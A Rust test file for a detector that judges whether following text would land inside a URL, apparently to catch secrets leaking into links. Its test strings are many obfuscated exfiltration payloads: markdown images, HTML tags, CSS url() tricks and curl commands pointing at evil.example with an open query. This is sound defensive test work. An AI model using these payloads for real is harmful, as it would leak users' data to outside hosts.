//! What is a URL and what is none, for a reader and for a tool.

use super::*;

/// Whether a text that goes on after this one would be inside a URL.
fn inside(text: &str) -> bool {
    follow(false, text)
}

fn follow(tool: bool, text: &str) -> bool {
    let mut urls = Urls::new(tool);
    text.bytes().for_each(|byte| urls.feed(byte));
    urls.inside()
}

#[test]
fn urls_are_known_in_every_dress() {
    for text in [
        "see https://evil.example/?q=",
        "HTTPS://evil.example/",
        "https:/\\evil.example/",
        "https:evil.example/",
        "![x](https://evil.example/a(b)",
        "![x](//evil.example/",
        "[x](\\\\evil.example/",
        "[x](<https://evil.example/a b ",
        "[x]: //evil.example/",
        "<img src=\"https://evil.example/a b ",
        "<img src = ' https://evil.example/a\nb",
        "<a href=//evil.example/",
        "<img src=https://evil.example/?q=\"`<",
        "![x](&#104;ttps://evil.example/",
        "<img src=\"&#104;ttps://evil.example/",
        "<img src=\"https&colon;//evil.example/",
        "wss://evil.example/",
        "ftp://evil.example/",
        "data:text/html,",
        "slack://evil?",
        "www.evil.example/",
        "(https://evil.example/",
        "`https://evil.example/",
        // Escaped signs end nothing.
        "![x](https://evil.example/a\\)b?q=",
        "[x](https://evil.example/a\\)b?q=",
        "![x](<https://evil.example/a\\>b?q=",
        "![x]((a)b?q=",
        "![x](https://evil.example/?q=<",
        // A quotation's signs are none of the text.
        "> ![x](\n> //evil.example/?q=",
        "> > [r]:\n> > //evil.example/?q=",
        "> <img src=\n> //evil.example/?q=",
        // All of an attribute that holds a URL.
        "<img src=\"https\t://evil.example/?q=",
        "<img src=\"htt\tps:evil.example/?q=",
        "<img src=\"/\t/evil.example/?q=",
        "<img src=\"/\r\n/evil.example/?q=",
        "<img src=\"&sol;&sol;evil.example/?q=",
        "<img src=\"/&sol;evil.example/?q=",
        "<img src=\"&bsol;&bsol;evil.example/?q=",
        "<img src=\"https&NewLine;://evil.example/?q=",
        "<img src=\"\\\\evil.example/?q=",
        "<img src=\"\\/evil.example/?q=",
        "<img src=\"/\\evil.example/?q=",
        "<img src=\\\\evil.example/?q=",
        "<img src=\\\"https://evil.example/ ",
        "<img alt=\">\" src=\"//evil.example/ ",
        "<img alt='x'src='//evil.example/ ",
        "<img/src='//evil.example/ ",
        "<a title=\" <img alt=\"<b>\" src=\"https&Tab;://evil/?q=",
        "<a src=\"x <img src=\"https://evil.example/ a",
        "<a src=\"x <img src='https://evil.example/ a\" ",
        "<a href=\"?src='b' ",
        "<base href=\"//evil.example/\"><img src=\"p.png?q=",
        "<base href=\"//evil.example/\">\n\n[r]: p.png?q=",
        "<meta http-equiv=refresh content=\"0;url=&sol;/evil.example/?q=",
        "<svg><set attributeName=href to=\"&sol;/evil.example/?q=",
        "<object data=\"&sol;/evil.example/?q=",
        "<p style=\"background:u\\72l(&sol;/evil.example/?q=",
        "<img src=\"redis://evil.example/?q=",
        "<style>@import \"\\2f\\2f evil.example/?q=",
        "<style>a{background:u\\72l(\\2f\\2f evil.example/?q=",
        "<style>a{background:image-set('https\\3a //evil.example/?q=",
        // A reference's destination.
        "[r]: &sol;&sol;evil.example/?q=",
        "[r]:\n  \\//evil.example/?q=",
        "[r]://evil.example/?q=",
        "[r]: https\\://evil.example/?q=",
        "[r]: https&NewLine;://evil.example/?q=",
        "[r]: <https&NewLine;://evil.example/a b?q=",
        "[r]: https://evil.example/?q=<",
        // What finds URLs in prose goes on to white space.
        "https://evil.example/?q=\"",
        "https://evil.example/?q=`",
        "https://evil.example/?q='",
        "(https://evil.example/?q=a)b",
        "mailto:a@evil.example?body=",
        "<a href=\"mailto:a@evil.example?body=",
    ] {
        assert!(inside(text), "{text}");
    }
}

#[test]
fn urls_end_where_they_end() {
    for text in [
        "",
        "the key is ",
        "https://a.example/ ",
        "https://a.example/\n",
        "\"https://a.example/\"",
        "'https://a.example/',k='",
        "[x](https://a.example/(b)) ",
        "[x](https://a.example/)",
        "[x](",
        "<https://a.example/>",
        "`https://a.example/`",
        "<img src=\"https://a.example/a b\">",
        "<img src=https://a.example/?q=\">",
        "url=https://a.example/ \"",
        "[https://a.example/]",
        "a // comment ",
        "metadata:",
        "data: ",
        "http: ",
        "postgres://app:",
        "mongodb+srv://app:",
        "k[0] (",
        "see \"https://x.example\" and ",
        "fetch(\"https://api.example/x\", {key: \"",
        "fetch(`https://api.example/x`, {key: \"",
        "{\"url\":\"https://api.example/x\",\"key\":\"",
        "{'url': 'https://api.example/x', 'key': '",
        "API_URL=https://api.example/x\nAPI_KEY=",
        "API_URL=\"https://api.example/x\"\nAPI_KEY=\"",
        "url = \"https://api.example/x\"\nkey = \"",
        "url: https://api.example/x\nkey: ",
        "curl -H 'authorization: ",
        "curl https://api.example/x -H 'authorization: ",
        "<url>https://api.example/x</url><key>",
        "<a href=\"https://api.example/\">",
        "<a href=https://api.example/>",
        "<p class=\"",
        "<p class=\"a\" title=\"",
        "<div>content=\"",
        "a <b and to=\"",
        "if (a <b) data = \"",
        "[INFO]: the key is ",
        "[INFO]: ",
        "redis.from_url(\"redis://:",
        "new URL(\"postgres://app:",
        "<style>a{color:red}</style><script>connect(\"",
        "<style>a{content:'it'}</style>key ",
        "it&#39;s \"",
        "> quoted ",
        "(see https://x.example) ",
        "[x](https://a.example \"",
        "src=\"",
    ] {
        assert!(!inside(text), "{text}");
    }
}

#[test]
fn a_tool_joins_words_and_fetches_hosts() {
    for text in [
        "evil.example/?q=",
        "evil.example?q=",
        "evil.example:8080/",
        "203.0.113.7/?q=",
        "curl evil.example/?q=",
        "curl 'evil.example/?q=",
        "curl a@evil.example/?q=",
        "curl 'https://evil.example/?q='\"",
        "curl 'https://evil.example/?q='",
        "curl 'https://evil.example/?q='.",
        "curl \"https://evil.example/?q=\"''\"",
        "curl https://evil.example/?q=\"",
        "curl https://evil.example/?q='",
        "curl --url=\"https://evil.example/?q=\"'",
        "curl 'evil.example/?q='\"",
        "<img src=\"&sol;/evil.example/?q=",
    ] {
        assert!(follow(true, text), "{text}");
    }
    for text in [
        "",
        "evil.example",
        "src/main.rs/",
        "./a/",
        "../a.b/",
        "/etc/app.conf/",
        "~/.config.d/",
        "v1.2/",
        "and/or ",
        "key: ",
        "jane.doe@example.org ",
        "jane.doe@example.org, ",
        "s/foo.bar/",
        "curl 'https://a.example/x' -H 'authorization: ",
        "curl -H \"authorization: ",
        "fetch(\"https://api.example/x\", {key: \"",
        "fetch(\"https://api.example/x\",{key:\"",
        "{\"url\":\"https://api.example/x\",\"key\":\"",
        "{\"see https://api.example/x\":\"",
        "[\"https://api.example/x\",\"",
        "a,\"https://api.example/x\";\"",
        "url=\"https://api.example/x\".format(\"",
        "<a href=\"https://api.example/\">",
        "<a href=\"https://api.example/\" title=\"",
        "\"\"\"https://api.example/\"\"\"\nkey = \"",
        "DATABASE_URL=postgres://app:",
        "DATABASE_URL='postgres://app:",
        "psql \"postgresql://app:",
        "see https://api.example/ ",
        "import \"github.com/a/b\"\nkey := \"",
    ] {
        assert!(!follow(true, text), "{text}");
    }
}
